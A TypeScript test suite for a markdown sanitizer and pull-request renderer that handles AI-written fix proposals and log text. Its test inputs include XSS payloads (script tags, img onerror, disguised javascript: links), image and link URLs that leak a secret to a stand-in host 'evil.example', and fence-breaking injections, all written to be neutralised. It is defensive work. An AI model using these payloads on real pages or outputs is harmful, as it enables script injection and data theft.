import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { ErrorRecord, StackFrame } from '../../functions/core/contracts.ts';
import {
  type RenderPullRequestInput,
  readFingerprintMarker,
  renderBranchName,
  renderPullRequest,
  summarizeEdits,
  updateOccurrences,
} from '../../functions/core/repair/render-pull-request.ts';
import { fencedCode, inlineCode, sanitizeMarkdown } from '../../functions/core/text/sanitize-markdown.ts';
import { repositoryLinkScope, webHostOfApiUrl } from '../../functions/core/text/scrub-prose.ts';

const FINGERPRINT = '1a2b3c4d5e6f708192a3b4c5d6e7f809';

function makeFrame(overrides: Partial<StackFrame> = {}): StackFrame {
  return { file: 'app/orders.py', line: 42, function: 'parse_order', inApp: true, ...overrides };
}

function makeErrorRecord(overrides: Partial<ErrorRecord> = {}): ErrorRecord {
  return {
    language: 'python',
    exceptionType: 'ValueError',
    message: "invalid literal for int() with base 10: 'abc'",
    frames: [makeFrame({ file: 'app/main.py', line: 10, function: 'handler' }), makeFrame()],
    causes: [],
    raw: 'Traceback (most recent call last): …',
    logGroup: '/aws/lambda/orders',
    logStream: '2024/01/01/[$LATEST]abc',
    timestamp: 1_704_067_200_000,
    eventIds: ['1'],
    ...overrides,
  };
}

function makeInput(overrides: Partial<RenderPullRequestInput> = {}): RenderPullRequestInput {
  return {
    incident: {
      incidentKey: `acme/orders#${FINGERPRINT}`,
      fingerprint: FINGERPRINT,
      count: 1234,
      firstSeen: Date.UTC(2024, 0, 1, 0, 0, 0),
      lastSeen: Date.UTC(2024, 0, 2, 12, 30, 0),
    },
    error: makeErrorRecord(),
    proposal: {
      title: 'Reject non-numeric order ids',
      rootCause: 'The order id is parsed with `int()` without validation.',
      explanation: 'Validate the id first and answer 400 instead of crashing.',
      confidence: 'medium',
    },
    changes: [{ path: 'app/orders.py', additions: 3, deletions: 1 }],
    model: { name: 'claude-sonnet-4-5', costUsd: 0.1234 },
    ...overrides,
  };
}

describe('sanitizeMarkdown', () => {
  it('never renders an image, not even as a link that keeps its ?d= URL (issue #11)', () => {
    const out = sanitizeMarkdown(
      'see ![pixel](https://evil.example/p.png?d=s3cr3t) and ![x](javascript:alert(1))',
      { allowedLinks: [repositoryLinkScope({ owner: 'acme', name: 'shop' })] },
    );
    expect(out).toBe('see pixel and x');
  });

  it('links only to the repository itself; other links keep their label, bare URLs are defanged (issue #11)', () => {
    const allowedLinks = [repositoryLinkScope({ owner: 'acme', name: 'shop' })];
    const out = sanitizeMarkdown(
      [
        '[the line](https://github.com/acme/shop/blob/main/app.py#L2)',
        '[docs](https://evil.example/?d=s3cr3t)',
        '[other repo](https://github.com/attacker/x?d=1)',
        '[escape](https://github.com/acme/shop/..%2f..%2fattacker)',
        'bare https://evil.example/c?d=s3cr3t and www.evil.example/x',
        '[ref][r]',
        '',
        '[r]: https://evil.example/r',
      ].join('\n'),
      { allowedLinks },
    );
    expect(out).toContain('[the line](https://github.com/acme/shop/blob/main/app.py#L2)');
    expect(out).toContain('docs\nother repo\nescape');
    expect(out).toContain('bare https[:]//evil.example/c?d=s3cr3t and www[.]evil.example/x');
    expect(out).not.toMatch(/\(https:\/\/(?!github\.com\/acme\/shop\/blob)/);
    expect(out).not.toContain('[r]:');
  });

  it('escapes raw HTML: script tags and img onerror', () => {
    const out = sanitizeMarkdown(
      '<script>alert(1)</script>\n<img src=x onerror="alert(1)">\n<!-- ai-ops:occurrences -->',
    );
    expect(out).not.toMatch(/<script|<img|<!--/i);
    expect(out).toContain('&lt;script&gt;');
    expect(out).toContain('&lt;img src=x onerror="alert(1)"&gt;');
  });

  it('escapes entities that would render back into live text', () => {
    expect(sanitizeMarkdown('&#64;octocat &lt;b&gt;')).toBe('&amp;#64;octocat &amp;lt;b&amp;gt;');
  });

  it('keeps code spans and code blocks verbatim', () => {
    const out = sanitizeMarkdown(
      'use `Map<string, number>` here\n```ts\nconst a = b < c && @decorator;\n```',
    );
    expect(out).toContain('`Map<string, number>`');
    expect(out).toContain('const a = b < c && @decorator;');
  });

  it('neutralises mentions but not email addresses', () => {
    const out = sanitizeMarkdown('ping @octocat and @acme/security-team, mail ops@example.com');
    expect(out).toContain('@\u200boctocat');
    expect(out).toContain('@\u200bacme/security-team');
    expect(out).toContain('ops@example.com');
    expect(out).not.toMatch(/(^|\s)@[a-z]/);
  });

  it('drops javascript: links, also when disguised, keeping the label', () => {
    const out = sanitizeMarkdown(
      '[click](javascript:alert(1)) [two](JaVaScRiPt:alert(1)) [three](<java\u0000script:x>) [ok](https://example.com/a?b=1)',
    );
    expect(out).not.toMatch(/javascript/i);
    expect(out).toContain('click two three');
    expect(
      sanitizeMarkdown('[ok](https://example.com/a?b=1)', {
        allowedLinks: [{ host: 'example.com', pathPrefix: '/a' }],
      }),
    ).toBe('[ok](https://example.com/a?b=1)');
  });

  it('removes reference definitions with unsafe targets', () => {
    const out = sanitizeMarkdown('[x][evil]\n\n[evil]: javascript:alert(1)');
    expect(out).not.toContain('javascript');
  });

  it('demotes headings below our own sections', () => {
    const out = sanitizeMarkdown('# Approved\n## Root cause\n###### tiny\nTitle\n===');
    expect(out.split('\n')).toEqual(['#### Approved', '##### Root cause', '###### tiny', 'Title', '\\===']);
  });

  it('closes a code fence the model left open, so it cannot swallow what follows', () => {
    const out = sanitizeMarkdown('look:\n```\n<!-- ai-ops:fingerprint=evil -->');
    expect(out.endsWith('\n```')).toBe(true);
    const fences = out.split('\n').filter((l) => l.startsWith('```'));
    expect(fences).toHaveLength(2);
  });

  it('does not let a backtick run inside inline text open a fence', () => {
    const out = sanitizeMarkdown('text ``` more <b>');
    expect(out).toBe('text ``` more &lt;b&gt;');
  });

  it('caps the length and says so', () => {
    const out = sanitizeMarkdown('a'.repeat(10_000), { maxLength: 100 });
    expect(out.length).toBeLessThan(130);
    expect(out).toContain('(truncated)');
  });

  it('leaves no live HTML, image or mention in any text without code (property)', () => {
    const pieces = fc.constantFrom(
      '<',
      '>',
      '!',
      '[',
      ']',
      '(',
      ')',
      '@',
      'a',
      'Z',
      '1',
      ' ',
      '\n',
      '#',
      '=',
      '-',
      'javascript:',
      'img',
      '&',
      '/',
    );
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 80 }), (parts) => {
        const out = sanitizeMarkdown(parts.join(''));
        expect(out).not.toMatch(/[<>]/);
        expect(out).not.toMatch(/(?<!\\)!\[/);
        expect(out).not.toMatch(/(^|[^A-Za-z0-9_\u200b])@[A-Za-z0-9]/);
        expect(out).not.toMatch(/^ {0,3}#{1,3}(\s|$)/m);
        expect(out).not.toMatch(/(?<!\\)\]\(\s*javascript:/i);
      }),
      { numRuns: 500 },
    );
  });

  it('strips bidi overrides and control characters', () => {
    expect(sanitizeMarkdown('a\u202eb\u0000c')).toBe('abc');
  });
});

describe('fencedCode and inlineCode', () => {
  it('picks a fence longer than any backtick run inside attacker-controlled text', () => {
    const block = fencedCode('before\n```\n## injected heading\n````\nafter');
    const lines = block.split('\n');
    expect(lines[0]).toBe('`````text');
    expect(lines.at(-1)).toBe('`````');
    expect(lines.slice(1, -1).some((l) => /^`{5}/.test(l))).toBe(false);
  });

  it('wraps inline text so backticks inside cannot close it', () => {
    expect(inlineCode('a `b` c')).toBe('``a `b` c``');
    expect(inlineCode('`edge`')).toBe('`` `edge` ``');
    expect(inlineCode('line1\nline2')).toBe('`line1 line2`');
  });
});

describe('renderBranchName', () => {
  it('slugs exception type and function and appends the short fingerprint', () => {
    expect(renderBranchName({ error: makeErrorRecord(), fingerprint: FINGERPRINT })).toBe(
      'fix/value-error-parse-order-1a2b3c4d',
    );
  });

  it('uses the simple names of qualified types and functions', () => {
    const error = makeErrorRecord({
      exceptionType: 'java.lang.NullPointerException',
      frames: [makeFrame({ function: 'com.acme.OrderService.parse' })],
    });
    expect(renderBranchName({ error, fingerprint: FINGERPRINT })).toBe(
      'fix/null-pointer-exception-parse-1a2b3c4d',
    );
  });

  it('folds unicode to ascii and drops what cannot be folded', () => {
    const error = makeErrorRecord({
      exceptionType: 'ÉchecDeCommande',
      frames: [makeFrame({ function: 'traiter_réponse_日本' })],
    });
    const branch = renderBranchName({ error, fingerprint: FINGERPRINT });
    expect(branch).toBe('fix/echec-de-commande-traiter-reponse-1a2b3c4d');
  });

  it('caps long names at 40 characters on a word boundary', () => {
    const error = makeErrorRecord({
      exceptionType: 'AbstractSingletonProxyFactoryBeanConfigurationException',
      frames: [makeFrame({ function: 'initializeEverythingThatCouldPossiblyBeInitialized' })],
    });
    const branch = renderBranchName({ error, fingerprint: FINGERPRINT });
    const slug = branch.slice('fix/'.length, -'-1a2b3c4d'.length);
    expect(slug.length).toBeLessThanOrEqual(40);
    expect(slug).toMatch(/^[a-z0-9]+(?:-[a-z0-9]+)*$/);
  });

  it('falls back to "error" for an empty type and no frames', () => {
    const error = makeErrorRecord({ exceptionType: '', frames: [] });
    expect(renderBranchName({ error, fingerprint: FINGERPRINT })).toBe('fix/error-1a2b3c4d');
  });

  it('never produces characters git refuses', () => {
    const error = makeErrorRecord({
      exceptionType: '..lock~^:?*[\\ ',
      frames: [makeFrame({ function: '<module>' })],
    });
    expect(renderBranchName({ error, fingerprint: FINGERPRINT })).toMatch(/^fix\/[a-z0-9-]+-1a2b3c4d$/);
  });
});

describe('renderPullRequest', () => {
  it('renders the commit message with the incident trailer', () => {
    const { commitMessage, title } = renderPullRequest(makeInput());
    const lines = commitMessage.trimEnd().split('\n');
    expect(lines[0]).toBe('fix(ai): Reject non-numeric order ids');
    expect(title).toBe('fix(ai): Reject non-numeric order ids');
    expect(commitMessage).toContain(`Fingerprint: ${FINGERPRINT}`);
    expect(lines.at(-1)).toBe(`Incident: acme/orders#${FINGERPRINT}`);
    expect(commitMessage).toContain('ValueError in parse_order (app/orders.py:42)');
  });

  it('holds every required section in the body', () => {
    const { body } = renderPullRequest(makeInput());
    for (const section of [
      '## Error',
      '## Root cause',
      '## Explanation',
      '## Confidence',
      '## Files changed',
      '## Occurrences',
      '## Model',
    ]) {
      expect(body).toContain(section);
    }
    expect(body).toContain('`ValueError`');
    expect(body).toContain("invalid literal for int() with base 10: 'abc'");
    expect(body).toContain('`parse_order` at `app/orders.py:42`');
    expect(body).toContain('**Language:** python');
    expect(body).toContain('`/aws/lambda/orders`');
    expect(body).toContain('The order id is parsed with `int()` without validation.');
    expect(body).toContain('**medium**');
    expect(body).toContain('- `app/orders.py` (+3 / −1)');
    expect(body).toContain(
      '**Occurrences:** 1,234 · first seen 2024-01-01 00:00:00 UTC · last seen 2024-01-02 12:30:00 UTC',
    );
    expect(body).toContain('`claude-sonnet-4-5` · cost $0.1234');
    expect(readFingerprintMarker(body)).toBe(FINGERPRINT);
  });

  it('sanitises model prose and fences attacker-controlled log text', () => {
    const { body, title } = renderPullRequest(
      makeInput({
        error: makeErrorRecord({ message: '```\n# pwned\n<img src=x onerror=alert(1)>' }),
        proposal: {
          title: 'Fix for @octocat',
          rootCause: '<script>steal()</script> ![t](https://t.example/x.png)',
          explanation: '```\nunclosed fence @team',
          confidence: 'low',
        },
      }),
    );
    expect(title).toBe('fix(ai): Fix for @\u200boctocat');
    expect(body).not.toContain('<script>');
    expect(body).not.toContain('![t]');
    expect(body).toContain('````text\n```\n# pwned\n<img src=x onerror=alert(1)>\n````');
    // The unclosed fence is closed before our next section starts.
    expect(body).toMatch(/unclosed fence @team\n```\n\n## Confidence/);
  });

  it("keeps the model's links into the repository on a GitHub Enterprise Server host, and only there", () => {
    const explanation =
      'See [the handler](https://ghes.corp.example/acme/shop/blob/main/app/orders.py#L12) and [docs](https://github.com/acme/shop/wiki).';
    const input = makeInput({
      incident: {
        ...makeInput().incident,
        repo: { owner: 'acme', name: 'shop', baseBranch: 'main', pathPrefix: '' },
      },
      proposal: { ...makeInput().proposal, explanation },
    });
    const onGhes = renderPullRequest({
      ...input,
      webHost: webHostOfApiUrl('https://ghes.corp.example/api/v3'),
    }).body;
    expect(onGhes).toContain(
      '[the handler](https://ghes.corp.example/acme/shop/blob/main/app/orders.py#L12)',
    );
    expect(onGhes).not.toContain('](https://github.com/acme/shop/wiki)');
    // github.com is the default: there the GHES link is the foreign one
    const onGithub = renderPullRequest(input).body;
    expect(onGithub).toContain('[docs](https://github.com/acme/shop/wiki)');
    expect(onGithub).not.toContain('](https://ghes.corp.example/');
  });

  it('names the web host of a GitHub API URL', () => {
    expect(webHostOfApiUrl('https://api.github.com')).toBe('github.com');
    expect(webHostOfApiUrl('https://GHES.corp.example/api/v3')).toBe('ghes.corp.example');
    expect(webHostOfApiUrl('not a url')).toBe('github.com');
  });

  it('updates the occurrences line in place, or appends it when missing', () => {
    const { body } = renderPullRequest(makeInput());
    const updated = updateOccurrences(body, {
      count: 5000,
      firstSeen: Date.UTC(2024, 0, 1),
      lastSeen: Date.UTC(2024, 1, 1),
    });
    expect(updated).toContain(
      '**Occurrences:** 5,000 · first seen 2024-01-01 00:00:00 UTC · last seen 2024-02-01 00:00:00 UTC',
    );
    expect(updated).not.toContain('1,234');
    expect(updated.split('\n')).toHaveLength(body.split('\n').length);
    const appended = updateOccurrences('edited by a human', { count: 2, firstSeen: 0, lastSeen: 0 });
    expect(appended).toMatch(/^edited by a human\n\n\*\*Occurrences:\*\* 2 /);
  });
});

describe('summarizeEdits', () => {
  it('counts added and removed lines per file', () => {
    const summary = summarizeEdits([
      {
        path: 'a.py',
        oldText: 'x = int(s)\nreturn x\n',
        newText: 'if not s.isdigit():\n    raise BadRequest()\nx = int(s)\nreturn x\n',
      },
      { path: 'a.py', oldText: 'old', newText: 'new' },
      { path: 'b.py', oldText: 'gone\n', newText: '' },
    ]);
    expect(summary).toEqual([
      { path: 'a.py', additions: 3, deletions: 1 },
      { path: 'b.py', additions: 0, deletions: 1 },
    ]);
  });
});
